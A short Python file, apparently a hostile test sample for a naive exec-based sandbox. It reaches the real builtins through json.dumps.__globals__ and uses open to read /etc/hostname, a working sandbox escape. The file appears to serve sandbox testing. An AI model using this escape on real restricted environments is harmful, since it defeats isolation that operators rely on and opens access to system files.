# ruff: noqa - a hostile script, kept as written
# threat: 1 reach the operating system
# technique: json.dumps.__globals__['__builtins__']['open'] reads a file
# naive exec: escapes: a module function's globals hold the real builtins, open included
import json
real_builtins = json.dumps.__globals__["__builtins__"]
result = "ESCAPED " + real_builtins["open"]("/etc/hostname").read()
